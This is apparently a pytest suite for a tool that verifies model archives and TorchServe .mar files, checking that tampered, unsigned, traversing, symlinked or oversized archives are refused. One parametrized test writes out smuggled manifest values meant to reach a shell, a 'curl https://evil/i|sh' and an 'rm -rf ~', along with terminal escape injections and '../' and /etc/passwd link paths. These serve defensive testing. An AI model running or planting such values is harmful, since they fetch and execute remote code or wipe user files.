"""`interpool verify`: stage by stage, on archives and on the .mar files around them."""

from __future__ import annotations

import contextlib
import io
import json
import shutil
import tarfile
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import torch
from click.testing import CliRunner, Result
from proving import build_archive, make_keys, replace_bytes
from stock_archiver import wrap

from interpool.archiver_ext.commands.subcommands import commands
from interpool.archiver_ext.verify.signing import sign_archive
from interpool.archiver_ext.verify.verification import STAGES, report_of, verify_archive
from interpool.handler import interpool_handler
from interpool.handler.cli import main
from interpool.native import errors
from interpool.native.errors import (
    ArchiveError,
    DigestError,
    ExternError,
    ManifestError,
    SelfTestError,
    SignatureError,
    StructureError,
)

RIGHT = torch.tensor([3.0, 12.0])
HANDLER = Path(str(interpool_handler.__file__))


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """Exists once something in an archive has run."""
    return tmp_path / "canary"


@pytest.fixture
def build(tmp_path: Path, canary: Path) -> Callable[..., Path]:
    def make(**options: Any) -> Path:
        return build_archive(tmp_path / "m.ptpkg", canary, **options)

    return make


def make_mar(archive: Path, archive_format: str) -> Path:
    store = archive.parent / archive_format
    store.mkdir(exist_ok=True)
    wrap("m", HANDLER, store, serialized_file=archive, archive_format=archive_format)
    (made,) = store.iterdir()
    return made


def verify(*arguments: object) -> Result:
    (command,) = [command for command in commands if command.name == "verify"]
    return CliRunner().invoke(command, [*map(str, arguments)])


# ---- the stages ------------------------------------------------------------------------------


def test_a_good_archive_is_verified_stage_by_stage(build: Callable[..., Path], tmp_path: Path) -> None:
    archive = build(expected=RIGHT + 0.01)
    private, public = make_keys(tmp_path)
    signer = sign_archive(archive, private).fingerprint
    done = verify(archive, "--key", public, "--atol", "0.02")
    assert done.exit_code == 0, done.output
    lines = done.output.splitlines()
    assert [line.split()[:2] for line in lines if line.startswith("ok")] == [["ok", name] for name in STAGES]
    assert f"signed by key {signer}" in done.output
    assert "gives the answers that it gave when it was made (rtol 0.0001, atol 0.02, seed 0)" in done.output
    assert lines[-1] == f"verified {archive}"


@pytest.mark.parametrize("value", ["inf", "nan", "1e300", "-1", "much"])
def test_a_tolerance_is_a_finite_number(value: str) -> None:
    for option in ("--rtol", "--atol"):
        done = verify("m.ptpkg", option, value)
        assert done.exit_code == 2
        assert f"Invalid value for '{option}'" in done.output


def test_without_keys_and_self_test_it_says_what_it_left_out_and_runs_nothing(
    build: Callable[..., Path], canary: Path
) -> None:
    done = verify(build(expected=RIGHT), "--no-self-test", "--json")
    assert done.exit_code == 0, done.output
    report = json.loads(done.stdout)
    assert (report["verified"], report["refusal"], report["signed_by"]) == (True, None, "")
    skipped = {stage["name"]: stage["skipped"] for stage in report["stages"] if stage["skipped"]}
    assert skipped == {"signature": "no key was given; unsigned", "self-test": "not asked for"}
    assert all(stage["seconds"] >= 0 for stage in report["stages"])
    assert not canary.exists()


MODULE = {"module": "nowhere", "distribution": "nowhere", "version": "1"}
MADE_WITH = {"python": "3.11.7", "torch": torch.__version__, "interpool": "0.1.0"}


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("externs", [{**MODULE, "distribution": "x'; curl https://evil/i|sh; echo '"}]),
        ("externs", [{**MODULE, "version": "1'; rm -rf ~; '"}]),
        ("made_with", {**MADE_WITH, "python": "3.11.7\x1b[2J\x1b[Hverified m.ptpkg"}),
        ("made_with", {**MADE_WITH, "torch": "2.13\nverified m.ptpkg"}),
    ],
)
def test_no_text_of_a_manifest_reaches_a_shell_or_controls_a_terminal(
    build: Callable[..., Path], canary: Path, field: str, value: Any
) -> None:
    done = verify(build(**{field: value}), "--no-self-test")
    assert isinstance(done.exception, ManifestError)
    assert done.exception.rule == field
    assert "\x1b" not in done.output
    assert "\nverified" not in done.output
    assert not canary.exists()


@pytest.mark.parametrize(
    ("damage", "error", "stage", "rule"),
    [
        ("truncated", ArchiveError, "structure", None),
        ("no manifest", ManifestError, "manifest", "no-manifest"),
        ("weights", DigestError, "digests", None),
        ("source", DigestError, "digests", None),
        ("unsigned", SignatureError, "signature", "unsigned"),
        ("stranger", SignatureError, "signature", "wrong-key"),
        ("extern", ExternError, "externs", "extern-missing"),
    ],
)
def test_a_refusal_names_its_stage_and_rule_and_runs_nothing(
    build: Callable[..., Path], canary: Path, tmp_path: Path, damage: str, error: type, stage: str, rule: str
) -> None:
    nowhere = {"module": "nowhere", "distribution": "nowhere-at-all", "version": "1.2"}
    archive = build(**({"externs": [nowhere]} if damage == "extern" else {}))
    keys = []
    if damage == "truncated":
        archive.write_bytes(archive.read_bytes()[:-100])
    elif damage == "no manifest":
        with zipfile.ZipFile(archive) as file:
            kept = [(info, file.read(info)) for info in file.infolist() if "manifest" not in info.filename]
        with zipfile.ZipFile(archive, "w") as file:
            for info, content in kept:
                file.writestr(info, content)
    elif damage == "weights":
        five, six = (torch.tensor([value]).numpy().tobytes() for value in (5.0, 6.0))
        replace_bytes(archive, ".data/0.storage", five, six)
    elif damage == "source":
        replace_bytes(archive, "proving_model.py", b"* 1.0", b"* 2.0")
    elif damage in ("unsigned", "stranger"):
        keys = ["--key", make_keys(tmp_path)[1]]
        if damage == "stranger":
            sign_archive(archive, make_keys(tmp_path, "stranger")[0])
    done = CliRunner().invoke(main, ["verify", *map(str, (archive, *keys)), "--json"])
    assert done.exit_code == 3
    report = json.loads(done.stdout)
    assert report["refusal"]["message"].startswith(report["error"]["message"])
    assert not report["verified"]
    assert report["stages"][-1]["name"] == stage
    assert issubclass(getattr(errors, report["refusal"]["error"]), error)
    assert str(archive) in report["refusal"]["message"]
    if rule is not None:
        assert report["refusal"]["rule"] == rule
    assert not canary.exists()


def test_a_signature_cannot_be_required_without_keys(build: Callable[..., Path]) -> None:
    with pytest.raises(SignatureError, match="no key was given") as caught:
        verify_archive(build(), require_signature=True)
    assert caught.value.rule == "no-key"


def test_a_file_that_changes_meanwhile_is_not_verified(build: Callable[..., Path]) -> None:
    archive = build()

    class Meddler:
        def __enter__(self) -> None:
            archive.write_bytes(archive.read_bytes())

        def __exit__(self, *_: object) -> None: ...

    with pytest.raises(ArchiveError, match="was changed while it was verified") as caught:
        verify_archive(archive, self_test=False, watch=lambda name, _: Meddler())
    assert caught.value.rule == "changed"


@pytest.mark.long
@pytest.mark.parametrize(("change", "error"), [("file", ArchiveError), ("source", DigestError)])
def test_a_file_that_replaces_the_archive_before_the_self_test_does_not_run(
    build: Callable[..., Path], canary: Path, tmp_path: Path, change: str, error: type
) -> None:
    archive = build(expected=RIGHT)
    private, public = make_keys(tmp_path)
    sign_archive(archive, private)

    @contextlib.contextmanager
    def meddle(stage: str, _: object) -> Iterator[None]:
        if stage == "self-test" and change == "file":
            build_archive(tmp_path / "unsigned.ptpkg", canary).rename(archive)
        elif stage == "self-test":
            replace_bytes(archive, "proving_model.py", b"* 1.0", b"* 2.0")
        yield

    with pytest.raises(error) as caught:
        verify_archive(archive, keys=[public], watch=meddle)
    assert caught.value.rule == ("changed" if change == "file" else "digest")
    assert not canary.exists()


# ---- the self-test ---------------------------------------------------------------------------


@pytest.mark.long
def test_other_answers_than_the_tolerance_allows_are_refused(build: Callable[..., Path]) -> None:
    archive = build(expected=RIGHT + 0.01)
    with pytest.raises(
        SelfTestError, match=r"m\.ptpkg: it answers its own example inputs differently"
    ) as caught:
        verify_archive(archive)
    assert "Greatest absolute difference: 0.0" in str(caught.value)
    report = report_of(caught.value)
    assert report is not None
    assert [stage.name for stage in report.stages] == [*STAGES]


@pytest.mark.long
def test_a_handler_gets_torchserves_context_with_a_directory_of_its_own(build: Callable[..., Path]) -> None:
    archive = build(entry="Handler", args=([{"body": 1}],), expected=[{"name": "model", "at": ""}])
    with pytest.raises(SelfTestError, match="answer") as caught:
        verify_archive(make_mar(archive, "zip-store"))
    assert f"answer[0]['at']: '{tempfile.gettempdir()}/interpool-model-" in str(caught.value)
    assert "['name']" not in str(caught.value)


@pytest.mark.long
def test_a_model_that_raises_is_refused_with_its_traceback(build: Callable[..., Path]) -> None:
    with pytest.raises(SelfTestError, match="its self-test raised RuntimeError") as caught:
        verify_archive(build(expected=RIGHT, args=(torch.ones(4),)))
    assert "in forward" in str(caught.value)


@pytest.mark.long
def test_verify_leaves_a_models_message_about_its_archive_unchanged(
    build: Callable[..., Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    archive = build(entry="Raises", args=(str(tmp_path / "m.ptpkg"),), expected="")
    monkeypatch.chdir(tmp_path)
    said = rf"^m\.ptpkg: its self-test raised ValueError: cannot use {archive}\n"
    with pytest.raises(SelfTestError, match=said):
        verify_archive(Path("m.ptpkg"))


def test_a_refusal_inside_of_a_mar_names_both(build: Callable[..., Path]) -> None:
    mar = make_mar(build(entry="Raises", args=(1,), expected=""), "default")
    with pytest.raises(SelfTestError, match=rf"^{mar} \(m\.ptpkg in it\): its self-test raised ValueError"):
        verify_archive(mar)


@pytest.mark.long
def test_a_model_that_ends_its_process_is_refused(build: Callable[..., Path]) -> None:
    with pytest.raises(SelfTestError, match="ended with status 7 and no answer"):
        verify_archive(build(entry="Dies", expected=RIGHT))


# ---- the .mar around it ----------------------------------------------------------------------


@pytest.mark.parametrize("archive_format", ["default", "zip-store", "tgz", "no-archive"])
def test_every_format_of_a_mar_is_read(build: Callable[..., Path], archive_format: str) -> None:
    archive = build()
    size = archive.stat().st_size
    mar = make_mar(archive, archive_format)
    report = verify_archive(mar, self_test=False)
    assert report.size == size
    assert report.archive in (f"{mar} (m.ptpkg in it)", f"{mar}/m.ptpkg")
    replace_bytes(archive, "proving_model.py", b"* 1.0", b"* 2.0")
    with pytest.raises(DigestError, match=r"m\.ptpkg"):
        verify_archive(make_mar(archive, archive_format), self_test=False)


def _zip(path: Path, name: str, content: bytes, mode: int = 0, times: int = 1) -> Path:
    with zipfile.ZipFile(path, "w") as file:
        file.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": {"serializedFile": name}}))
        for _ in range(times):
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            file.writestr(info, content)
    return path


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    ("name", "options", "error", "said"),
    [
        ("../m.ptpkg", {}, StructureError, "its serializedFile '../m.ptpkg' leads out of"),
        ("deep/m.ptpkg", {}, StructureError, "is a path, not a name"),
        ("m.ptpkg", {"mode": 0o120777}, StructureError, "is a link"),
        ("m.ptpkg", {"times": 2}, ManifestError, "twice"),
        ("m.ptpkg", {"times": 0}, ManifestError, "not at all"),
        ("", {}, ManifestError, "names no serialized file"),
    ],
)
def test_a_mar_that_names_something_else_is_refused(
    tmp_path: Path, name: str, options: dict[str, int], error: type[ArchiveError], said: str
) -> None:
    with pytest.raises(error, match=said):
        verify_archive(_zip(tmp_path / "m.mar", name, b"x", **options))


@pytest.mark.parametrize(
    ("archive_format", "key"),
    [
        ("default", "configFile"),
        ("tgz", "requirementsFile"),
        ("no-archive", "modelFile"),
        ("no-archive", "handler"),
    ],
)
def test_no_name_in_a_mars_manifest_leads_out_of_it(
    build: Callable[..., Path], archive_format: str, key: str
) -> None:
    mar = make_mar(build(), "no-archive")
    file = mar / "MAR-INF" / "MANIFEST.json"
    manifest = json.loads(file.read_text())
    manifest["model"][key] = "../../etc/x.yaml"
    file.write_text(json.dumps(manifest))
    if archive_format == "default":
        mar = Path(shutil.make_archive(str(mar), "zip", mar))
    elif archive_format == "tgz":
        mar = Path(shutil.make_archive(str(mar), "gztar", mar.parent, mar.name))
    with pytest.raises(StructureError, match=rf"its {key} '../../etc/x.yaml' leads out") as caught:
        verify_archive(mar)
    assert str(mar) in str(caught.value)


def test_a_mar_that_lies_about_a_size_is_refused(tmp_path: Path) -> None:
    mar = _zip(tmp_path / "m.mar", "m.ptpkg", b"x" * 1000)
    data = bytearray(mar.read_bytes())
    at = data.rindex(b"PK\x01\x02") + 24
    data[at : at + 4] = (2**32 - 2).to_bytes(4, "little")
    mar.write_bytes(data)
    with pytest.raises(StructureError, match=r"bytes|damaged|size|described in two ways"):
        verify_archive(mar)


@pytest.mark.long
@pytest.mark.parametrize("archive_format", ["default", "tgz"])
def test_a_mar_that_is_a_bomb_is_refused(tmp_path: Path, archive_format: str) -> None:
    archive = tmp_path / "m.ptpkg"
    archive.write_bytes(bytes(80 << 20))
    with pytest.raises(StructureError, match=r"would unpack from .* to 83,886,080 bytes"):
        verify_archive(make_mar(archive, archive_format))


@pytest.mark.parametrize("manifest", [b"{", b"[]", b"[" * 100_000, b'{"model": 3}'])
def test_a_mar_with_a_strange_manifest_is_refused(tmp_path: Path, manifest: bytes) -> None:
    with zipfile.ZipFile(tmp_path / "m.mar", "w") as file:
        file.writestr("MAR-INF/MANIFEST.json", manifest)
    with pytest.raises(ManifestError):
        verify_archive(tmp_path / "m.mar")


@pytest.mark.parametrize("kind", ["link", "missing", "cut short", "no model"])
def test_a_tgz_that_holds_no_archive_is_refused(tmp_path: Path, kind: str) -> None:
    path = tmp_path / "m.tar.gz"
    manifest = json.dumps({"model": {"serializedFile": "m.ptpkg"}}).encode()
    with tarfile.open(path, "w:gz") as file:
        if kind == "link":
            link = tarfile.TarInfo("m/m.ptpkg")
            link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
            file.addfile(link)
        if kind != "no model":
            info = tarfile.TarInfo("m/MAR-INF/MANIFEST.json")
            info.size = len(manifest)
            file.addfile(info, io.BytesIO(manifest))
    if kind == "cut short":
        path.write_bytes(path.read_bytes()[:-40])
    error = StructureError if kind in ("link", "cut short") else ManifestError
    with pytest.raises(error):
        verify_archive(path)


def test_a_directory_must_hold_its_files_itself(build: Callable[..., Path], tmp_path: Path) -> None:
    model = make_mar(build(), "no-archive")
    (model / "m.ptpkg").rename(tmp_path / "elsewhere.ptpkg")
    (model / "m.ptpkg").symlink_to(tmp_path / "elsewhere.ptpkg")
    with pytest.raises(StructureError, match=r"'m\.ptpkg' is a link that leads out"):
        verify_archive(model)
    (tmp_path / "elsewhere.ptpkg").rename(model / "real.ptpkg")
    (model / "m.ptpkg").unlink()
    (model / "m.ptpkg").symlink_to("real.ptpkg")
    with pytest.raises(StructureError, match=r"m\.ptpkg is a link"):
        verify_archive(model)
    with pytest.raises(ManifestError, match="not a TorchServe model"):
        verify_archive(tmp_path)


def test_a_path_that_is_missing_or_no_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ArchiveError, match="No such file"):
        verify_archive(tmp_path / "none.mar")
    with pytest.raises(ArchiveError, match="is neither a file nor a model's directory"):
        verify_archive(Path("/dev/null"))
